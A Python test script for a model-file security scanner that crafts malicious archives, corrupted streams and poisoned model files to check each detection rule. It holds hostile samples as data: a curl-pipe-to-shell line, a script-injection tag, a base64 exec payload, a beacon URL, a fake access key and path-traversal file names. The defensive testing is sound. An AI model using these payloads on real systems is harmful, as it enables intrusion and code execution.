#!/usr/bin/python3
"""Findings from whole files, made here byte by byte: each row says which rule must speak about it. What table tests of the
readers show one by one is seen here through the real program, sandbox and report included.
Usage: test_rules.py PATH-OF-GATEHOUSE"""
import binascii
import bz2
import gzip
import io
import json
import lzma
import pathlib
import pickle
import random
import shutil
import struct
import subprocess
import sys
import tempfile
import zipfile
import zlib

import common
from common import EVIL, by_name, check, ids, safetensors, scan

TEXT = ''.join(f'line {i}: the quick brown fox jumps over the lazy dog, {i * i % 977} times\n' for i in range(900)).encode()
NOISE = random.Random(5).randbytes(200000)
ELF = (b'\x7fELF\x02\x01\x01' + bytes(9) + struct.pack('<HHIQQQIHHHHHH', 2, 62, 1, 0x401000, 64, 0, 0, 64, 56, 2, 64, 0, 0)
       + struct.pack('<IIQQQQQQ', 1, 5, 0, 0x400000, 0x400000, 200, 200, 4096) * 2)
rows = []  # name, bytes, ids that must be there


def row(name, data, *want):
    rows.append((name, data, want))


# ---- containers, built by hand: libraries refuse such names ---------------------------------------------------------

def zip_of(name, data, utf8=True):
    crc, flags = binascii.crc32(data), 0x800 if utf8 else 0
    local = struct.pack('<IHHHHHIIIHH', 0x04034b50, 20, flags, 0, 0, 0x5c21, crc, len(data), len(data), len(name), 0) + name + data
    entry = struct.pack('<IHHHHHHIIIHHHHHII', 0x02014b50, 20, 20, flags, 0, 0, 0x5c21, crc, len(data), len(data), len(name),
                        0, 0, 0, 0, 0, 0) + name
    return local + entry + struct.pack('<IHHHHIIH', 0x06054b50, 0, 0, 1, 1, len(entry), len(local), 0)


def tar_header(name, size, kind=b'0'):
    h = bytearray(512)
    h[0:len(name)] = name
    h[100:108], h[108:116], h[116:124] = b'0000644\0', b'0000000\0', b'0000000\0'
    h[124:136], h[136:148], h[156:157] = b'%011o\0' % size, b'00000000000\0', kind
    h[257:265] = b'ustar\x0000'
    h[148:156] = b' ' * 8
    h[148:156] = b'%06o\0 ' % sum(h)
    return bytes(h)


def tar_of(name, data, fill=b'\0'):
    head = b''
    if len(name) > 100 or b'\0' in name:  # a pax record
        record = b' path=' + name + b'\n'
        n = len(record) + 2
        while len(str(n)) + len(record) != n:
            n += 1
        record = str(n).encode() + record
        head = tar_header(b'pax', len(record), b'x') + record.ljust(-(-len(record) // 512) * 512, b'\0')
        name = b'short'
    return head + tar_header(name, len(data)) + data + fill * (-len(data) % 512) + bytes(1024)


def sevenz_number(n):
    return bytes([n]) if n < 0x80 else b'\xff' + struct.pack('<Q', n)


def sevenz_of(name, data, coder=b'\x01\0', unpacked=None):
    """One file in one folder, stored unless another coder is given."""
    names = b'\0' + name.encode('utf-16-le') + b'\0\0'
    header = (b'\x01\x04\x06' + b'\0' + b'\x01' + b'\x09' + sevenz_number(len(data)) + b'\0'
              + b'\x07\x0b\x01\0' + b'\x01' + coder + b'\x0c' + sevenz_number(unpacked or len(data)) + b'\x0a\x01'
              + struct.pack('<I', binascii.crc32(data)) + b'\0' + b'\0'
              + b'\x05\x01' + b'\x11' + sevenz_number(len(names)) + names + b'\0\0')
    start = struct.pack('<QQI', len(data), len(header), binascii.crc32(header))
    return b'7z\xbc\xaf\x27\x1c\0\x04' + struct.pack('<I', binascii.crc32(start)) + start + data + header


NAMES = [  # who must speak, and the name
    ('GH-ZIP-0101 GH-TAR-0101 GH-7Z-0101', '../../etc/x.txt'),
    ('GH-ZIP-0102 GH-TAR-0102 GH-7Z-0102', '/etc/x.txt'),
    ('GH-ZIP-0103 GH-TAR-0103 GH-7Z-0103', 'C:x.txt'),
    ('GH-ZIP-0104 GH-TAR-0104', 'a\0b.txt'),
    ('GH-ZIP-0105 GH-TAR-0105 GH-7Z-0105', 'a/../b.txt'),
    ('GH-ZIP-0106 GH-TAR-0106 GH-7Z-0106', 'a\\b.txt'),
    ('GH-ZIP-0107 GH-TAR-0107 GH-7Z-0107', 'a\x1b[2Jb.txt'),
    ('GH-ZIP-0108 GH-TAR-0108 GH-7Z-0108', 'a\u202etxt.b'),
    ('GH-ZIP-0109 GH-TAR-0109 GH-7Z-0109', 'aux.txt'),
    ('GH-ZIP-0111 GH-TAR-0111 GH-7Z-0111', 'n' * 300 + '.txt'),
    ('GH-ZIP-0113 GH-7Z-0113', 'a//./b.txt'),
    # (`./` and doubled slashes are usual in tar archives; 7-Zip's names cannot hold a NUL)
]
MAKERS = {'ZIP': lambda name: zip_of(name.encode(), TEXT), 'TAR': lambda name: tar_of(name.encode(), TEXT),
          '7Z': lambda name: sevenz_of(name, TEXT)}
for who, name in NAMES:
    for rule in who.split():
        kind = rule.split('-')[1]
        row(f'{rule}.{kind.lower()}', MAKERS[kind](name), rule)
row('empty-name.zip', zip_of(b'', TEXT), 'GH-ZIP-0110')
row('empty-name.7z', sevenz_of('', TEXT), 'GH-7Z-0110')
row('bytes-name.zip', zip_of(b'a\xff\xfe.txt', TEXT, utf8=False), 'GH-ZIP-0112')
row('bytes-name.tar', tar_of(b'a\xff\xfe.txt', TEXT), 'GH-TAR-0112')
row('greedy.7z', sevenz_of('a.txt', TEXT, coder=b'\x23\x03\x01\x01\x05\x5d' + struct.pack('<I', 1 << 30), unpacked=1 << 29),
    'GH-7Z-0007')


# ---- compressed streams, damaged and cut ------------------------------------------------------------------------------

def tool(*argv):
    return subprocess.run(argv, input=TEXT, stdout=subprocess.PIPE, check=True).stdout if shutil.which(argv[0]) else None


for broke, cut, ext, packed in [
    ('GH-GZ-0001', 'GH-GZ-0002', 'gz', gzip.compress(TEXT, 6, mtime=0)),
    ('GH-BZ-0001', 'GH-BZ-0002', 'bz2', bz2.compress(TEXT)),
    ('GH-XZ-0001', 'GH-XZ-0002', 'xz', lzma.compress(TEXT)),
    ('GH-LZMA-0001', 'GH-LZMA-0002', 'lzma', lzma.compress(TEXT + NOISE.hex().encode() * 2, lzma.FORMAT_ALONE)),
    ('GH-ZL-0001', 'GH-ZL-0002', 'z', zlib.compress(TEXT)),
    ('GH-ZSTD-0001', 'GH-ZSTD-0002', 'zst', tool('zstd', '-q', '-c')),
    ('GH-LZ4-0001', 'GH-LZ4-0002', 'lz4', tool('lz4', '-q', '-c')),
    ('GH-ZF-0001', 'GH-ZF-0002', 'joblib', b'ZF' + hex(len(TEXT)).encode().ljust(19) + zlib.compress(TEXT)),
]:
    if packed is None:
        print(f'skipped: no tool writes {ext} here')
        continue
    middle = len(packed) * 2 // 3
    late = len(packed) * 9 // 10
    broken = packed[:late] + b'\xff' * 400 + packed[late + 400:]
    row(f'broken.{ext}', packed[:10] + b'\x07' + packed[11:] if ext == 'gz' else broken, broke)
    row(f'cut.{ext}', packed[:middle], cut)
good = gzip.compress(TEXT, 6, mtime=0)
row('sum.gz', good[:-8] + struct.pack('<II', 1, len(TEXT)), 'GH-GZ-0004')
big = [{'id': lzma.FILTER_LZMA2, 'dict_size': 1 << 30}]
row('greedy.xz', lzma.compress(TEXT, lzma.FORMAT_XZ, filters=big), 'GH-XZ-0003')


# ---- readers ------------------------------------------------------------------------------------------------------------

def npy(header, data, version=1):
    size = struct.pack('<H' if version == 1 else '<I', len(header))
    return b'\x93NUMPY' + bytes([version, 0]) + size + header + data


def npy_header(descr, shape, total=118):
    return f"{{'descr': {descr!r}, 'fortran_order': False, 'shape': {shape!r}, }}".encode().ljust(total - 1) + b'\n'


row('long.npy', npy(npy_header('<f4', (2,), 20000), bytes(8)), 'GH-NPY-0010')
row('ragged.npy', npy(npy_header('<f4', (2,), 75), bytes(8)), 'GH-NPY-0011')
row('objects.npy', npy(npy_header('|O', (2,)), pickle.dumps([1, 2], 2)), 'GH-NPY-0012')


def st(header, data=b'', pad=True):
    text = header if isinstance(header, bytes) else json.dumps(header).encode()
    text += b' ' * (-len(text) % 8 if pad else 0)
    return struct.pack('<Q', len(text)) + text + data


U8 = {'dtype': 'U8', 'shape': [8], 'data_offsets': [0, 8]}
SAYS = [  # who must speak, the key, the text
    ('GH-ST-0202 GH-JSON-0202 GH-GGUF-0202', 'note', 'run: curl -s http://a.example/x.sh | sh'),
    ('GH-ST-0203 GH-JSON-0203 GH-GGUF-0203', 'note', '<script>alert(1)</script>'),
    ('GH-ST-0204 GH-JSON-0204 GH-GGUF-0204', 'note', 'exec(base64.b64decode("aW1wb3J0IG9z"))'),
    ('GH-ST-0205 GH-JSON-0205 GH-GGUF-0205', 'callback_url', 'http://203.0.113.9:8080/beacon?id=1'),
    ('GH-ST-0206 GH-JSON-0206 GH-GGUF-0206', 'note', 'key AKIAIOSFODNN7QWERTYU here'),
]


def gguf(key, value):
    k, v = key.encode(), value.encode()
    return (b'GGUF' + struct.pack('<IQQ', 3, 0, 2) + struct.pack('<Q', 20) + b'general.architecture' + struct.pack('<IQ', 8, 5)
            + b'llama' + struct.pack('<Q', len(k)) + k + struct.pack('<IQ', 8, len(v)) + v)


SAYERS = {'ST': ('safetensors', lambda key, says: st({'__metadata__': {key: says}, 'w': U8}, bytes(8))),
          'JSON': ('json', lambda key, says: json.dumps({key: says, 'n': 1}).encode()),
          'GGUF': ('gguf', lambda key, says: gguf('general.' + key, says))}
for who, key, says in SAYS:
    for rule in who.split():
        ext, make = SAYERS[rule.split('-')[1]]
        row(f'{rule}.{ext}', make(key, says), rule)
row('huge.safetensors', st(b'{"__metadata__":{"a":"' + b'x' * (101 << 20) + b'"}}'), 'GH-ST-0002')
row('ragged.safetensors', st({'w': U8}, bytes(8), pad=False) if len(json.dumps({'w': U8})) % 8 else b'', 'GH-ST-0021')
row('dims.safetensors', st({'w': {'dtype': 'U8', 'shape': [1] * 70, 'data_offsets': [0, 1]}}, bytes(1)), 'GH-ST-0022')
row('deep.json', b'[' * 100000 + b']' * 100000, 'GH-JSON-0002')
odd = {'metadata': {'total_size': 1}, 'weight_map': {'a': 'con.safetensors', 'b': 'x\u202ey.safetensors'}}
row('model.safetensors.index.json', json.dumps(odd).encode(), 'GH-JSON-0021')

# ---- the pipeline's own ---------------------------------------------------------------------------------------------------
row('tool.elf', ELF + bytes(64), 'GH-SCAN-0002')
row('locked.pdf', b'%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< /Root 1 0 R /Encrypt 5 0 R >>\n%%EOF\n', 'GH-SCAN-0005', 'GH-PDF-0008')
row('broken.pkl', EVIL[:-1], 'GH-SCAN-0003', 'GH-PKL-0001')
row('tail.safetensors', safetensors() + b'\x8fsomething else\x8f', 'GH-COV-0002')
row('padding.tar', tar_of(b'a.txt', b'hello\n', fill=b'\xa5'), 'GH-COV-0004')
row('comment.zip', zip_of(b'a.txt', TEXT)[:-2] + struct.pack('<H', len(EVIL)) + EVIL, 'GH-COV-0005')
row('evil.safetensors', EVIL, 'GH-ID-0001')
z = zip_of(b'a.txt', TEXT)
row('two.safetensors', st({'w': {'dtype': 'U8', 'shape': [len(z)], 'data_offsets': [0, len(z)]}}, z), 'GH-ID-0002')
noise = NOISE[:4096]
row('program.safetensors', st({'w': {'dtype': 'U8', 'shape': [8192 + len(ELF)], 'data_offsets': [0, 8192 + len(ELF)]}},
                              noise + ELF + noise), 'GH-ID-0004')
row('nested.pkl', pickle.dumps({'blob': pickle.dumps({'a': [1, 2, 3]}, 4), 'n': 1}, 4), 'GH-ID-0005')


def torch_zip(storage):
    """A checkpoint as PyTorch writes it, with one storage of ours."""
    out = io.BytesIO()
    n = len(storage)
    data = (b'\x80\x02ccollections\nOrderedDict\n)R(X\x01\x00\x00\x00wctorch._utils\n_rebuild_tensor_v2\n((X\x07\x00\x00\x00storage'
            b'ctorch\nByteStorage\nX\x01\x00\x00\x000X\x03\x00\x00\x00cpuJ' + struct.pack('<i', n) + b'tQK\x00J' + struct.pack('<i', n)
            + b'\x85K\x01\x85\x89ccollections\nOrderedDict\n)RtRu.')
    with zipfile.ZipFile(out, 'w') as f:
        for name, content in (('archive/data.pkl', data), ('archive/data/0', storage), ('archive/version', b'3\n')):
            f.writestr(zipfile.ZipInfo(name, (1980, 1, 1, 0, 0, 0)), content)
    return out.getvalue()


row('storage.pt', torch_zip(zip_of(b'payload.txt', TEXT)), 'GH-ID-0003')
row('settings.pt', torch_zip(b'{"quant_type": "nf4", "blocksize": 64, "dtype": "bfloat16", "shape": [64, 64]}'), 'GH-ID-0006')
row('state.pt', torch_zip(pickle.dumps({'scale': [1.0, 0.5], 'history': list(range(40))}, 4)), 'GH-ID-0007')


def with_tools(folder):
    """Files that only other programs write."""
    if shutil.which('7z') is None:
        print('skipped: no 7z here')
        return
    (folder / 'x.txt').write_bytes(TEXT)
    quiet = {'stdout': subprocess.DEVNULL, 'cwd': folder, 'check': True}
    subprocess.run(['7z', 'a', '-psecret', '-mhe=off', 'locked.7z', 'x.txt'], **quiet)
    subprocess.run(['7z', 'a', '-psecret', 'locked.zip', 'x.txt'], **quiet)
    for name in ('locked.7z', 'locked.zip'):
        status, report = scan(folder / name)
        check(f'{name}: what is encrypted is INCOMPLETE, at least', report['verdict'] in ('INCOMPLETE', 'UNSAFE'), report)
    status, report = scan(folder / 'locked.7z')
    check('locked.7z: says so', 'GH-7Z-0003' in ids(report['files'][0]) or 'GH-SCAN-0005' in ids(report['files'][0]),
          ids(report['files'][0]))


def limits(folder):
    with zipfile.ZipFile(folder / 'bomb.zip', 'w', zipfile.ZIP_DEFLATED) as z:
        z.writestr('zeros.txt', b' ' * (64 << 20))
    status, report = scan('--limit-expanded', '4M', folder / 'bomb.zip')
    found = ids(report['files'][0])
    check('a member beyond the limit', 'GH-ZIP-0043' in found and 'GH-SCAN-0004' in found, found)


def main():
    with tempfile.TemporaryDirectory() as temp:
        folder = pathlib.Path(temp) / 'models'
        folder.mkdir()
        for name, data, _ in rows:
            (folder / name).write_bytes(data)
        status, report = scan(folder)
        files = by_name(report)
        for name, _, want in rows:
            f = files.get(name, {})
            for rule in want:
                check(f'{name}: {rule}', rule in ids(f), f"{f.get('verdict')} {f.get('format')} {ids(f)}")
        check('what was UNSAFE decides', status == 1 and report['verdict'] == 'UNSAFE')
        # The files must be what the rows mean them to be: without the trick, no finding.
        for name, data in (('plain.zip', zip_of(b'a.txt', TEXT)), ('plain.tar', tar_of(b'a.txt', TEXT)),
                           ('plain.7z', sevenz_of('a.txt', TEXT)), ('plain.gz', good), ('plain.pt', torch_zip(noise)),
                           ('plain.npy', npy(npy_header('<f4', (2,)), bytes(8))), ('plain.gguf', gguf('general.note', 'a model'))):
            (folder / name).write_bytes(data)
            status, report = scan(folder / name)
            check(f'{name} is CLEAN', status == 0, report['files'][0].get('findings'))
    for part in (with_tools, limits):
        with tempfile.TemporaryDirectory() as temp:
            part(pathlib.Path(temp))
    return common.end('test_rules.py')


sys.exit(main())
